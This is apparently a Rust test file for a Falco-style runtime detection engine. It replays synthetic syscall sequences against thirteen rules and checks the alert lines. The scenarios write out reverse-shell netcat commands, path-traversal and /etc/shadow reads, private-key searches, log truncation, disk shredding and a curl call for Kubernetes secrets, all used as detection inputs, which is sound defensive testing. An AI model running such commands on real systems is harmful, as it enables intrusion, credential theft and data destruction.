//! Upstream stable rules 1–13 of `falco_rules.yaml` (file order), end to end: realistic
//! synthetic event sequences go through the state tables, the rules and the output formatter;
//! each test asserts the exact alert line Falco prints for the scenario, and a near miss (the
//! same scenario with the one detail the rule excludes) that must not alert.
mod common;

use common::stable::*;
use syssentry_engine::event::{
    mk,
    ppm::{af, exe, ipproto, open::*, sock, AT_FDCWD},
    Event, SockTuple,
};
use syssentry_engine::rules::Priority;
use syssentry_engine::state::ContainerInfo;

/// Controlling terminal /dev/pts/0 (major 136, minor 0).
const PTS0: u32 = 34816;

/// A container (short id) and its cgroup as a Kubernetes node's runtime reports it.
const CID: &str = "5f2a9c3e1b7d";
const CGROUP: &str = "cpuset=/kubepods/besteffort/pod3c1f0d9a-7e2b-4b8e-9f00-2a6b5d1e4c77/\
5f2a9c3e1b7d4e6fa0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3";

/// Suggested fields of a process in the [`CID`] container.
const POD_SUFFIX: &str = "container_id=5f2a9c3e1b7d container_name=web container_image_repository=docker.io/library/nginx \
container_image_tag=1.27.3 k8s_pod_name=web-7d4b9c6f5-x2kqp k8s_ns_name=shop";

/// Registers the metadata the runtime reports for [`CID`] (an nginx pod in namespace `shop`,
/// pod IP 10.244.1.7).
fn web_pod(h: &mut Harness) {
    let mut info = ContainerInfo {
        id: CID.into(),
        full_id: "5f2a9c3e1b7d4e6fa0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3".into(),
        name: "web".into(),
        image: "docker.io/library/nginx:1.27.3".into(),
        image_repository: "docker.io/library/nginx".into(),
        image_tag: "1.27.3".into(),
        container_type: "containerd".into(),
        ip: "10.244.1.7".into(),
        ..ContainerInfo::default()
    };
    info.labels.insert(
        "io.kubernetes.pod.name".into(),
        "web-7d4b9c6f5-x2kqp".into(),
    );
    info.labels
        .insert("io.kubernetes.pod.namespace".into(), "shop".into());
    h.container(info);
}

/// A successful execve as the kernel reports it: the command name is the basename of the path
/// that was executed (`argv0_path`, before symlinks), `exepath` the resolved executable.
fn exec(tid: i64, exepath: &str, comm: &str, argv: &[&str], flags: u32) -> Event {
    mk::execve(tid, tid, exepath, argv, 0)
        .str("comm", comm)
        .flags("flags", flags)
        .build()
}

/// systemd as pid 1.
fn systemd(h: &mut Harness) {
    h.process(Proc::new(1, 0, "/usr/lib/systemd/systemd", &["/sbin/init"]));
}

/// An ssh login of user `alice` (uid/loginuid 1000) on /dev/pts/0: sshd listener (800), the
/// privileged session monitor (5000), the user's sshd (5001) and her bash (5002).
fn alice_ssh_session(h: &mut Harness) {
    systemd(h);
    h.process(Proc::new(
        800,
        1,
        "/usr/sbin/sshd",
        &["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
    ));
    h.process(Proc {
        loginuid: 1000,
        ..Proc::new(5000, 800, "/usr/sbin/sshd", &["sshd: alice [priv]"])
    });
    h.process(Proc {
        uid: 1000,
        loginuid: 1000,
        ..Proc::new(5001, 5000, "/usr/sbin/sshd", &["sshd: alice@pts/0"])
    });
    h.process(Proc {
        uid: 1000,
        loginuid: 1000,
        tty: PTS0,
        cwd: "/home/alice/",
        ..Proc::new(5002, 5001, "/usr/bin/bash", &["-bash"])
    });
}

/// alice's shell runs `sudo -i`: a root login shell (5011) below sudo (5010).
fn alice_root_shell(h: &mut Harness) {
    alice_ssh_session(h);
    h.process(Proc {
        loginuid: 1000,
        tty: PTS0,
        cwd: "/home/alice/",
        ..Proc::new(5010, 5002, "/usr/bin/sudo", &["sudo", "-i"])
    });
    h.process(Proc {
        loginuid: 1000,
        tty: PTS0,
        ..Proc::new(5011, 5010, "/usr/bin/bash", &["-bash"])
    });
}

/// Forks `parent` into `child` and execs `argv` there.
fn spawn(
    h: &mut Harness,
    parent: i64,
    child: i64,
    exepath: &str,
    comm: &str,
    argv: &[&str],
    flags: u32,
) -> Vec<syssentry_engine::output::Alert> {
    h.feed(mk::clone(parent, child, 0).build());
    h.feed(exec(child, exepath, comm, argv, flags))
}

/// nginx on the host: master (3000, root) below systemd, one worker (3001, www-data).
fn nginx_host(h: &mut Harness) {
    systemd(h);
    h.process(Proc {
        cwd: "/",
        ..Proc::new(
            3000,
            1,
            "/usr/sbin/nginx",
            &["nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"],
        )
    });
    h.process(Proc {
        uid: 33,
        cwd: "/",
        ..Proc::new(3001, 3000, "/usr/sbin/nginx", &["nginx: worker process"])
    });
}

#[test]
fn directory_traversal_monitored_file_read() {
    const RULE: &str = "Directory traversal monitored file read";
    let mut h = Harness::stable();
    systemd(&mut h);
    // php-fpm master and a worker serving a request with a path-traversal file parameter.
    h.process(Proc {
        cwd: "/",
        ..Proc::new(
            2000,
            1,
            "/usr/sbin/php-fpm8.2",
            &["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"],
        )
    });
    h.process(Proc {
        uid: 33,
        cwd: "/var/www/html/",
        ..Proc::new(2001, 2000, "/usr/sbin/php-fpm8.2", &["php-fpm: pool www"])
    });

    let tail = "gparent=systemd ggparent=<NA> gggparent=<NA> evt_type=openat user=www-data user_uid=33 user_loginuid=-1 \
                process=php-fpm8.2 proc_exepath=/usr/sbin/php-fpm8.2 parent=php-fpm8.2 \
                command=php-fpm8.2 terminal=0";
    let prefix = h.next_prefix();
    let alerts = h.feed(
        mk::openat(
            2001,
            AT_FDCWD,
            "uploads/../../../../etc/passwd",
            O_RDONLY | O_CLOEXEC,
            0,
            9,
        )
        .build(),
    );
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Read monitored file via directory traversal | file=/etc/passwd \
             fileraw=uploads/../../../../etc/passwd {tail} {HOST_SUFFIX}"
        ),
    );

    // The rule includes failed attempts: no fd is created, fd.name comes from the event.
    let prefix = h.next_prefix();
    let alerts = h.feed(
        mk::openat(
            2001,
            AT_FDCWD,
            "/var/www/html/../../../root/.ssh/id_rsa",
            O_RDONLY | O_CLOEXEC,
            0,
            -13,
        )
        .build(),
    );
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Read monitored file via directory traversal | file=/root/.ssh/id_rsa \
             fileraw=/var/www/html/../../../root/.ssh/id_rsa {tail} {HOST_SUFFIX}"
        ),
    );

    // Near miss: the same traversal read by a program whose parent is a shell.
    h.process(Proc {
        uid: 33,
        cwd: "/var/www/html/",
        ..Proc::new(
            2100,
            2001,
            "/usr/bin/dash",
            &["sh", "-c", "cat uploads/../../../../etc/passwd"],
        )
    });
    h.process(Proc {
        uid: 33,
        cwd: "/var/www/html/",
        ..Proc::new(
            2101,
            2100,
            "/usr/bin/cat",
            &["cat", "uploads/../../../../etc/passwd"],
        )
    });
    let alerts = h.feed(
        mk::openat(
            2101,
            AT_FDCWD,
            "uploads/../../../../etc/passwd",
            O_RDONLY,
            0,
            3,
        )
        .build(),
    );
    expect_no_alert(&alerts, RULE);
}

#[test]
fn read_sensitive_file_trusted_after_startup() {
    const RULE: &str = "Read sensitive file trusted after startup";
    let mut h = Harness::stable();
    nginx_host(&mut h);
    // The nginx master has run for an hour (seeded at start) when it reads /etc/shadow.
    let prefix = h.next_prefix();
    let alerts =
        h.feed(mk::openat(3000, AT_FDCWD, "/etc/shadow", O_RDONLY | O_CLOEXEC, 0, 12).build());
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Sensitive file opened for reading by trusted program after startup | file=/etc/shadow \
             pcmdline=systemd gparent=<NA> ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 \
             user_loginuid=-1 process=nginx proc_exepath=/usr/sbin/nginx parent=systemd \
             command=nginx terminal=0 {HOST_SUFFIX}"
        ),
    );

    // Near miss: a freshly started nginx reading it while loading its state (within 5 s).
    h.feed(mk::clone(1, 3100, 0).build());
    h.feed(exec(
        3100,
        "/usr/sbin/nginx",
        "nginx",
        &["/usr/sbin/nginx", "-g", "daemon on; master_process on;"],
        exe::EXE_WRITABLE,
    ));
    let alerts =
        h.feed(mk::openat(3100, AT_FDCWD, "/etc/shadow", O_RDONLY | O_CLOEXEC, 0, 5).build());
    expect_no_alert(&alerts, RULE);
}

#[test]
fn read_sensitive_file_untrusted() {
    const RULE: &str = "Read sensitive file untrusted";
    let mut h = Harness::stable();
    alice_root_shell(&mut h);
    spawn(
        &mut h,
        5011,
        5020,
        "/usr/bin/cat",
        "cat",
        &["cat", "/etc/shadow"],
        exe::EXE_WRITABLE,
    );
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::openat(5020, AT_FDCWD, "/etc/shadow", O_RDONLY, 0, 3).build());
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Sensitive file opened for reading by non-trusted program | file=/etc/shadow \
             gparent=sudo ggparent=bash gggparent=sshd evt_type=openat user=root user_uid=0 user_loginuid=1000 \
             process=cat proc_exepath=/usr/bin/cat parent=bash command=cat /etc/shadow terminal=34816 {HOST_SUFFIX}"
        ),
    );
    // A file under /etc/sudoers.d read with a relative path from /etc.
    h.feed(mk::chdir(5011, "/etc", 0).build());
    spawn(
        &mut h,
        5011,
        5021,
        "/usr/bin/less",
        "less",
        &["less", "sudoers.d/90-cloud-init-users"],
        exe::EXE_WRITABLE,
    );
    let prefix = h.next_prefix();
    let alerts = h.feed(
        mk::openat(
            5021,
            AT_FDCWD,
            "sudoers.d/90-cloud-init-users",
            O_RDONLY,
            0,
            4,
        )
        .build(),
    );
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Sensitive file opened for reading by non-trusted program | \
             file=/etc/sudoers.d/90-cloud-init-users gparent=sudo ggparent=bash gggparent=sshd evt_type=openat \
             user=root user_uid=0 user_loginuid=1000 process=less proc_exepath=/usr/bin/less parent=bash \
             command=less sudoers.d/90-cloud-init-users terminal=34816 {HOST_SUFFIX}"
        ),
    );

    // Near miss: sudo itself (a trusted user-exec program) reading its policy.
    let alerts =
        h.feed(mk::openat(5010, AT_FDCWD, "/etc/sudoers", O_RDONLY | O_CLOEXEC, 0, 4).build());
    expect_no_alert(&alerts, RULE);
}

#[test]
fn run_shell_untrusted() {
    const RULE: &str = "Run shell untrusted";
    let mut h = Harness::stable();
    nginx_host(&mut h);
    // A web shell: the nginx worker runs `sh -c id` (/bin/sh is dash; www-data cannot write it).
    h.feed(mk::clone(3001, 3101, 0).build());
    let prefix = h.next_prefix();
    let alerts = h.feed(exec(3101, "/usr/bin/dash", "sh", &["sh", "-c", "id"], 0));
    expect_alert(
        &alerts,
        RULE,
        Priority::Notice,
        &format!(
            "{prefix}: Notice Shell spawned by untrusted binary | parent_exe=nginx: worker process \
             parent_exepath=/usr/sbin/nginx pcmdline=nginx gparent=nginx ggparent=systemd aname[4]=<NA> \
             aname[5]=<NA> aname[6]=<NA> aname[7]=<NA> evt_type=execve user=www-data user_uid=33 user_loginuid=-1 \
             process=sh proc_exepath=/usr/bin/dash parent=nginx command=sh -c id terminal=0 exe_flags=0 {HOST_SUFFIX}"
        ),
    );

    // Near miss: the same spawn with a command line known to be run by servers.
    h.feed(mk::clone(3001, 3102, 0).build());
    let alerts = h.feed(exec(
        3102,
        "/usr/bin/dash",
        "sh",
        &["sh", "-c", "whoami"],
        0,
    ));
    expect_no_alert(&alerts, RULE);
}

#[test]
fn system_user_interactive() {
    const RULE: &str = "System user interactive";
    let mut h = Harness::stable();
    systemd(&mut h);
    // www-data logged in over ssh (its login shell was changed to bash).
    h.process(Proc::new(
        800,
        1,
        "/usr/sbin/sshd",
        &["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
    ));
    h.process(Proc {
        loginuid: 33,
        ..Proc::new(6000, 800, "/usr/sbin/sshd", &["sshd: www-data [priv]"])
    });
    h.process(Proc {
        uid: 33,
        loginuid: 33,
        ..Proc::new(6001, 6000, "/usr/sbin/sshd", &["sshd: www-data@pts/1"])
    });
    h.process(Proc {
        uid: 33,
        loginuid: 33,
        tty: PTS0 + 1,
        cwd: "/var/www/",
        ..Proc::new(6002, 6001, "/usr/bin/bash", &["-bash"])
    });
    h.feed(mk::clone(6002, 6010, 0).build());
    let prefix = h.next_prefix();
    let alerts = h.feed(exec(6010, "/usr/bin/id", "id", &["id"], 0));
    expect_alert(
        &alerts,
        RULE,
        Priority::Informational,
        &format!(
            "{prefix}: Informational System user ran an interactive command | evt_type=execve user=www-data \
             user_uid=33 user_loginuid=33 process=id proc_exepath=/usr/bin/id parent=bash command=id \
             terminal=34817 exe_flags=0 {HOST_SUFFIX}"
        ),
    );

    // Near miss: the same command in a regular user's ssh session.
    alice_ssh_session(&mut h);
    h.feed(mk::clone(5002, 5030, 0).build());
    let alerts = h.feed(exec(5030, "/usr/bin/id", "id", &["id"], 0));
    expect_no_alert(&alerts, RULE);
}

/// `kubectl exec [-it] web -- bash`, first half: runc (on the host, below the pod's shim)
/// forks the process that joins the container.
fn runc_exec_fork(h: &mut Harness, runc: i64, child: i64) {
    h.process(Proc {
        cwd: "/run/containerd/io.containerd.runtime.v2.task/k8s.io/5f2a9c3e1b7d/",
        ..Proc::new(
            runc,
            900,
            "/usr/bin/runc",
            &[
                "runc",
                "--root",
                "/run/containerd/runc/k8s.io",
                "exec",
                "--process",
                "/tmp/runc-process",
                "--detach",
                "--tty",
                "5f2a9c3e1b7d",
            ],
        )
    });
    h.feed(mk::clone(runc, child, 0).build());
}

/// Second half: the child execs `exepath` inside the container (the exec event carries the
/// container's cgroups, the image's binary is on the overlay's lower layer).
fn container_exec(tid: i64, exepath: &str, comm: &str, argv: &[&str], tty: u32) -> Event {
    mk::execve(tid, tid, exepath, argv, 0)
        .str("comm", comm)
        .flags("flags", exe::EXE_LOWER_LAYER)
        .list("cgroups", &[CGROUP])
        .uint("tty", u64::from(tty))
        .build()
}

/// The pod's shim below systemd, and the pod's metadata.
fn pod_shim(h: &mut Harness) {
    systemd(h);
    h.process(Proc::new(
        900,
        1,
        "/usr/bin/containerd-shim-runc-v2",
        &[
            "/usr/bin/containerd-shim-runc-v2",
            "-namespace",
            "k8s.io",
            "-id",
            "5f2a9c3e1b7d",
            "-address",
            "/run/containerd/containerd.sock",
        ],
    ));
    web_pod(h);
}

#[test]
fn terminal_shell_in_container() {
    const RULE: &str = "Terminal shell in container";
    let mut h = Harness::stable();
    pod_shim(&mut h);
    runc_exec_fork(&mut h, 1000, 1010);
    let prefix = h.next_prefix();
    let alerts = h.feed(container_exec(
        1010,
        "/usr/bin/bash",
        "bash",
        &["bash"],
        PTS0,
    ));
    expect_alert(
        &alerts,
        RULE,
        Priority::Notice,
        &format!(
            "{prefix}: Notice A shell was spawned in a container with an attached terminal | evt_type=execve \
             user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=runc \
             command=bash terminal=34816 exe_flags=EXE_LOWER_LAYER {POD_SUFFIX}"
        ),
    );

    // Near miss: `kubectl exec` without a terminal (no `-t`).
    runc_exec_fork(&mut h, 1100, 1110);
    let alerts = h.feed(container_exec(1110, "/usr/bin/bash", "bash", &["bash"], 0));
    expect_no_alert(&alerts, RULE);
}

#[test]
fn netcat_remote_code_execution_in_container() {
    const RULE: &str = "Netcat Remote Code Execution in Container";
    let mut h = Harness::stable();
    pod_shim(&mut h);
    runc_exec_fork(&mut h, 1000, 1010);
    h.feed(container_exec(1010, "/usr/bin/bash", "bash", &["bash"], 0));
    // /bin/nc is an alternatives symlink to nc.traditional; the command name stays `nc`.
    h.feed(mk::clone(1010, 1020, 0).build());
    let prefix = h.next_prefix();
    let alerts = h.feed(container_exec(
        1020,
        "/usr/bin/nc.traditional",
        "nc",
        &["nc", "-e", "/bin/sh", "10.0.0.5", "4444"],
        0,
    ));
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Netcat runs inside container that allows remote code execution | evt_type=execve \
             user=root user_uid=0 user_loginuid=-1 process=nc proc_exepath=/usr/bin/nc.traditional parent=bash \
             command=nc -e /bin/sh 10.0.0.5 4444 terminal=0 exe_flags=EXE_LOWER_LAYER {POD_SUFFIX}"
        ),
    );
    h.feed(mk::clone(1010, 1021, 0).build());
    let prefix = h.next_prefix();
    let alerts = h.feed(container_exec(
        1021,
        "/usr/bin/ncat",
        "ncat",
        &["ncat", "10.0.0.5", "4444", "--sh-exec", "bash -i"],
        0,
    ));
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Netcat runs inside container that allows remote code execution | evt_type=execve \
             user=root user_uid=0 user_loginuid=-1 process=ncat proc_exepath=/usr/bin/ncat parent=bash \
             command=ncat 10.0.0.5 4444 --sh-exec bash -i terminal=0 exe_flags=EXE_LOWER_LAYER {POD_SUFFIX}"
        ),
    );

    // Near miss: the same command on the host.
    alice_root_shell(&mut h);
    h.feed(mk::clone(5011, 5040, 0).build());
    let alerts = h.feed(exec(
        5040,
        "/usr/bin/nc.traditional",
        "nc",
        &["nc", "-e", "/bin/sh", "10.0.0.5", "4444"],
        exe::EXE_WRITABLE,
    ));
    expect_no_alert(&alerts, RULE);
}

#[test]
fn search_private_keys_or_passwords() {
    const RULE: &str = "Search Private Keys or Passwords";
    let mut h = Harness::stable();
    alice_root_shell(&mut h);
    h.feed(mk::clone(5011, 5050, 0).build());
    let prefix = h.next_prefix();
    let alerts = h.feed(exec(
        5050,
        "/usr/bin/grep",
        "grep",
        &["grep", "-rl", "BEGIN RSA PRIVATE", "/home"],
        exe::EXE_WRITABLE,
    ));
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Grep private keys or passwords activities found | evt_type=execve user=root \
             user_uid=0 user_loginuid=1000 process=grep proc_exepath=/usr/bin/grep parent=bash \
             command=grep -rl BEGIN RSA PRIVATE /home terminal=34816 exe_flags=EXE_WRITABLE {HOST_SUFFIX}"
        ),
    );
    // alice herself looking for ssh keys with find.
    h.feed(mk::clone(5002, 5051, 0).build());
    let prefix = h.next_prefix();
    let alerts = h.feed(exec(
        5051,
        "/usr/bin/find",
        "find",
        &["find", "/", "-name", "id_ed25519*"],
        0,
    ));
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Grep private keys or passwords activities found | evt_type=execve user=alice \
             user_uid=1000 user_loginuid=1000 process=find proc_exepath=/usr/bin/find parent=bash \
             command=find / -name id_ed25519* terminal=34816 exe_flags=0 {HOST_SUFFIX}"
        ),
    );

    // Near miss: grep for certificates, not private keys.
    h.feed(mk::clone(5011, 5052, 0).build());
    let alerts = h.feed(exec(
        5052,
        "/usr/bin/grep",
        "grep",
        &["grep", "-rl", "BEGIN CERTIFICATE", "/etc/ssl"],
        exe::EXE_WRITABLE,
    ));
    expect_no_alert(&alerts, RULE);
}

#[test]
fn clear_log_activities() {
    const RULE: &str = "Clear Log Activities";
    let mut h = Harness::stable();
    alice_root_shell(&mut h);
    // `: > /var/log/auth.log` in the root shell.
    let prefix = h.next_prefix();
    let alerts = h.feed(
        mk::openat(
            5011,
            AT_FDCWD,
            "/var/log/auth.log",
            O_WRONLY | O_CREAT | O_TRUNC,
            0o666,
            3,
        )
        .build(),
    );
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Log files were tampered | file=/var/log/auth.log evt_type=openat user=root user_uid=0 \
             user_loginuid=1000 process=bash proc_exepath=/usr/bin/bash parent=sudo command=bash terminal=34816 \
             {HOST_SUFFIX}"
        ),
    );
    h.feed(mk::close(5011, 3, 0).build());

    // Near miss: appending (`>>`) instead of truncating.
    let alerts = h.feed(
        mk::openat(
            5011,
            AT_FDCWD,
            "/var/log/auth.log",
            O_WRONLY | O_CREAT | O_APPEND,
            0o666,
            3,
        )
        .build(),
    );
    expect_no_alert(&alerts, RULE);
}

#[test]
fn remove_bulk_data_from_disk() {
    const RULE: &str = "Remove Bulk Data from Disk";
    let mut h = Harness::stable();
    alice_root_shell(&mut h);
    h.feed(mk::clone(5011, 5060, 0).build());
    let prefix = h.next_prefix();
    let alerts = h.feed(exec(
        5060,
        "/usr/bin/shred",
        "shred",
        &["shred", "-u", "-n", "3", "/dev/sdb"],
        exe::EXE_WRITABLE,
    ));
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Bulk data has been removed from disk | file=<NA> evt_type=execve user=root user_uid=0 \
             user_loginuid=1000 process=shred proc_exepath=/usr/bin/shred parent=bash command=shred -u -n 3 /dev/sdb \
             terminal=34816 exe_flags=EXE_WRITABLE {HOST_SUFFIX}"
        ),
    );

    // Near miss: `mkfs.ext4` (the command name is not exactly `mkfs` or `mke2fs`).
    h.feed(mk::clone(5011, 5061, 0).build());
    let alerts = h.feed(exec(
        5061,
        "/usr/sbin/mkfs.ext4",
        "mkfs.ext4",
        &["mkfs.ext4", "/dev/sdb1"],
        exe::EXE_WRITABLE,
    ));
    expect_no_alert(&alerts, RULE);
}

#[test]
fn create_symlink_over_sensitive_files() {
    const RULE: &str = "Create Symlink Over Sensitive Files";
    let mut h = Harness::stable();
    alice_root_shell(&mut h);
    h.feed(mk::clone(5011, 5070, 0).build());
    h.feed(exec(
        5070,
        "/usr/bin/ln",
        "ln",
        &["ln", "-s", "/etc/shadow", "/tmp/.s"],
        exe::EXE_WRITABLE,
    ));
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::symlinkat(5070, "/etc/shadow", AT_FDCWD, "/tmp/.s", 0).build());
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Symlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/.s \
             evt_type=symlinkat user=root user_uid=0 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln \
             parent=bash command=ln -s /etc/shadow /tmp/.s terminal=34816 {HOST_SUFFIX}"
        ),
    );
    // A relative link path prints resolved against the working directory (/root/).
    h.feed(mk::clone(5011, 5071, 0).build());
    h.feed(exec(
        5071,
        "/usr/bin/ln",
        "ln",
        &["ln", "-s", "/", "rootfs"],
        exe::EXE_WRITABLE,
    ));
    let prefix = h.next_prefix();
    let alerts = h.feed(mk::symlinkat(5071, "/", AT_FDCWD, "rootfs", 0).build());
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Symlinks created over sensitive files | target=/ linkpath=/root/rootfs \
             evt_type=symlinkat user=root user_uid=0 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln \
             parent=bash command=ln -s / rootfs terminal=34816 {HOST_SUFFIX}"
        ),
    );

    // Near miss: a link to a file that is not on the sensitive list.
    h.feed(mk::clone(5011, 5072, 0).build());
    h.feed(exec(
        5072,
        "/usr/bin/ln",
        "ln",
        &["ln", "-s", "/etc/passwd", "/tmp/.p"],
        exe::EXE_WRITABLE,
    ));
    let alerts = h.feed(mk::symlinkat(5072, "/etc/passwd", AT_FDCWD, "/tmp/.p", 0).build());
    expect_no_alert(&alerts, RULE);
}

#[test]
fn create_hardlink_over_sensitive_files() {
    const RULE: &str = "Create Hardlink Over Sensitive Files";
    let mut h = Harness::stable();
    alice_root_shell(&mut h);
    h.feed(mk::clone(5011, 5080, 0).build());
    h.feed(exec(
        5080,
        "/usr/bin/ln",
        "ln",
        &["ln", "/etc/shadow", "/root/.cache/s"],
        exe::EXE_WRITABLE,
    ));
    let prefix = h.next_prefix();
    let alerts =
        h.feed(mk::linkat(5080, AT_FDCWD, "/etc/shadow", AT_FDCWD, "/root/.cache/s", 0).build());
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Hardlinks created over sensitive files | target=/etc/shadow linkpath=/root/.cache/s \
             evt_type=linkat user=root user_uid=0 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln \
             parent=bash command=ln /etc/shadow /root/.cache/s terminal=34816 {HOST_SUFFIX}"
        ),
    );
    // From /etc with a relative path: evt.arg.oldpath is the resolved path, so the rule matches.
    h.feed(mk::chdir(5011, "/etc", 0).build());
    h.feed(mk::clone(5011, 5081, 0).build());
    h.feed(exec(
        5081,
        "/usr/bin/ln",
        "ln",
        &["ln", "sudoers", "/root/.cache/su"],
        exe::EXE_WRITABLE,
    ));
    let prefix = h.next_prefix();
    let alerts =
        h.feed(mk::linkat(5081, AT_FDCWD, "sudoers", AT_FDCWD, "/root/.cache/su", 0).build());
    expect_alert(
        &alerts,
        RULE,
        Priority::Warning,
        &format!(
            "{prefix}: Warning Hardlinks created over sensitive files | target=/etc/sudoers linkpath=/root/.cache/su \
             evt_type=linkat user=root user_uid=0 user_loginuid=1000 process=ln proc_exepath=/usr/bin/ln \
             parent=bash command=ln sudoers /root/.cache/su terminal=34816 {HOST_SUFFIX}"
        ),
    );

    // Near miss: a hard link to /etc/passwd.
    h.feed(mk::clone(5011, 5082, 0).build());
    h.feed(exec(
        5082,
        "/usr/bin/ln",
        "ln",
        &["ln", "passwd", "/root/.cache/p"],
        exe::EXE_WRITABLE,
    ));
    let alerts =
        h.feed(mk::linkat(5082, AT_FDCWD, "passwd", AT_FDCWD, "/root/.cache/p", 0).build());
    expect_no_alert(&alerts, RULE);
}

/// The cluster's API service address as the node resolves `kubernetes.default.svc.cluster.local`.
const API_SERVER: std::net::Ipv4Addr = std::net::Ipv4Addr::new(10, 96, 0, 1);

/// A TCP socket, then its non-blocking connect (`EINPROGRESS`) from `from:sport` to the API
/// server on 443.
fn api_connect(h: &mut Harness, tid: i64, fd: i64, from: &str, sport: u16) -> Event {
    h.feed(mk::socket(tid, af::AF_INET, sock::SOCK_STREAM, ipproto::TCP, fd).build());
    let tuple = SockTuple::Inet {
        sip: from.parse().unwrap(),
        sport,
        dip: API_SERVER,
        dport: 443,
    };
    mk::connect(tid, fd, tuple, -115).build()
}

#[test]
fn contact_k8s_api_server_from_container() {
    const RULE: &str = "Contact K8S API Server From Container";
    let mut h = Harness::stable();
    h.state()
        .dns
        .insert("kubernetes.default.svc.cluster.local", &[API_SERVER.into()]);
    h.state().local_addrs.push("192.168.10.21".parse().unwrap());
    pod_shim(&mut h);
    runc_exec_fork(&mut h, 1000, 1010);
    h.feed(container_exec(1010, "/usr/bin/bash", "bash", &["bash"], 0));
    h.feed(mk::clone(1010, 1030, 0).build());
    let argv = [
        "curl",
        "-sk",
        "https://kubernetes.default.svc/api/v1/namespaces/shop/secrets",
    ];
    h.feed(container_exec(1030, "/usr/bin/curl", "curl", &argv, 0));
    let connect = api_connect(&mut h, 1030, 5, "10.244.1.7", 43512);
    let prefix = h.next_prefix();
    let alerts = h.feed(connect);
    expect_alert(
        &alerts,
        RULE,
        Priority::Notice,
        &format!(
            "{prefix}: Notice Unexpected connection to K8s API Server from container | \
             connection=10.244.1.7:43512->10.96.0.1:443 lport=43512 rport=443 fd_type=ipv4 fd_proto=tcp \
             evt_type=connect user=root user_uid=0 user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl \
             parent=bash command=curl -sk https://kubernetes.default.svc/api/v1/namespaces/shop/secrets \
             terminal=0 {POD_SUFFIX}"
        ),
    );

    // Near miss: the same request from a pod in kube-system (profiled infrastructure).
    const SYS_CID: &str = "a1b2c3d4e5f6";
    let sys_cgroup = "cpuset=/kubepods/burstable/pod77aa0c1e-55d0-4f7e-a1b1-0d4b8e2f9c10/\
a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90";
    let mut info = ContainerInfo {
        id: SYS_CID.into(),
        name: "coredns".into(),
        ip: "10.244.1.3".into(),
        ..ContainerInfo::default()
    };
    info.labels
        .insert("io.kubernetes.pod.namespace".into(), "kube-system".into());
    h.container(info);
    h.feed(mk::clone(1000, 1040, 0).build());
    h.feed(
        mk::execve(1040, 1040, "/usr/bin/curl", &argv, 0)
            .flags("flags", exe::EXE_LOWER_LAYER)
            .list("cgroups", &[sys_cgroup])
            .build(),
    );
    let connect = api_connect(&mut h, 1040, 5, "10.244.1.3", 51000);
    let alerts = h.feed(connect);
    expect_no_alert(&alerts, RULE);
}
